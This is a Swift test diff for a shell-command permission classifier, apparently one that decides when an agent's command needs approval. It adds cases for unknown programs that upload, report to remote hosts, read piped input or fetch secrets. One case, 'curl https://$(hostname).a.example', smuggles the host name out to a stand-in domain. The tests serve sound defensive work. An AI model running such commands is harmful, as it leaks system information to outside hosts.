@@ -26,6 +26,68 @@ struct ShellUnknownTests {
     }
 
     @Test(
+        "an unknown program may look within walls, but not send, sign in, or read what another program gives it",
+        arguments: [
+            ("frobnicate list --remote cache.example:9000", true), ("frobnicate check --report-to x", true),
+            ("frobnicate show app.log --tee https://a.example", true), ("frobnicate view a --upload", true),
+            ("frobnicate test --deploy-on-success", true), ("frobnicate scan . --server ci.example", true),
+            ("frobnicate scan --api-token=abc .", true), ("frobnicate inspect a.db --sync", true),
+            ("frobnicate build --publish", true), ("tar c src | frobnicate check", true),
+            ("frobnicate read < notes.txt", true), ("git diff | frobnicatestat", true),
+            ("frobnicate check --no-upload", false), ("frobnicate status --format json", false),
+            ("frobnicate a.in -o a.out", false), ("frobnicate a.in a.svg", false), ("frobnicate x.frobnicate", false),
+            ("frobnicate a.in b.svg", true), ("frobnicate a.in -o /srv/a", true),
+            ("frobnicate a.in -o a.out --upload", true), ("bq query 'update t set a = 1 where true'", true),
+            ("bq query --nouse_legacy_sql 'select 1'", false), ("curl https://$(hostname).a.example", true),
+            ("gh run view 12 --log", false), ("frobnicate list --server localhost:80", false),
+            ("frobnicate check src --verbose", false),
+        ])
+    func sending(line: String, isAsked: Bool) {
+        let verdict = verdict(line)
+        #expect((verdict.decision == .ask) == isAsked, "\(verdict.rule)")
+    }
+
+    @Test(
+        "the form of a name says on a host that an unknown program only looks, unless an option or another verb says more",
+        arguments: [
+            ("lsfrob", false), ("lsfrob -v", false), ("lsfrob web1", true), ("frobnicate getsysinfo", false),
+            ("frobnicate measure_temp", false), ("frobnicate -LDInfo -a0", false), ("frobnicate memstats 12", false),
+            ("frobnicate ctrl all show", false), ("frobnicate --list-generations", false),
+            ("frobnicate --version", false),
+            ("/usr/lib/nagios/plugins/check_frob -w 5", false), ("filefrob-bpfcc -p 1", false),
+            ("frobnicate getsecret x", true), ("frobnicate resetstats", true), ("frobnicate -SetInfo x", true),
+            ("./frobnicate --version", true), ("frobnicate ship --listen", true), ("frobnicate -LDInit", true),
+            ("frobnicate restart list", true), ("frobnicate add test", true),
+            ("frobnicate load show", true), ("frobnicate $X list", true), ("frobnicate getconfig set", true),
+            ("frobstat --reset", true), ("check_frob --fix", true), ("frob-get --install x", true),
+            ("frob-get x", true), ("frobnicate rename a report", true), ("frobnicate reloadzones", true),
+        ])
+    func forms(line: String, isAsked: Bool) {
+        let verdict = verdict(line, remote: true)
+        #expect((verdict.decision == .ask) == isAsked, "\(verdict.rule)")
+    }
+
+    @Test(
+        "a client's verb that a variable holds isn't known",
+        arguments: ["pac $VERB solution", "aws $X list", "kubectl $VERB pods", "az \"$V\" show"])
+    func computedVerbs(line: String) {
+        let verdict = verdict(line)
+        #expect(verdict.decision == .ask)
+        #expect(verdict.findings.contains { $0.rule == "shell-dynamic" }, "\(verdict.rule)")
+    }
+
+    @Test(
+        "a branch may begin like a version, a tag is one",
+        arguments: [
+            ("v2-parser", false), ("v2beta", false), ("v2", true), ("v2.1", true), ("v1.0.0-rc1", true),
+            ("vnext", false),
+        ])
+    func versions(name: String, isAsked: Bool) {
+        let verdict = verdict("git push -u origin \(name)")
+        #expect((verdict.decision == .ask) == isAsked, "\(verdict.rule)")
+    }
+
+    @Test(
         "a file of a repository's history is removed after a question, a lock without one",
         arguments: [
             ("rm .git/refs/heads/main", true), ("rm -f .git/packed-refs", true), ("unlink .git/index", true),
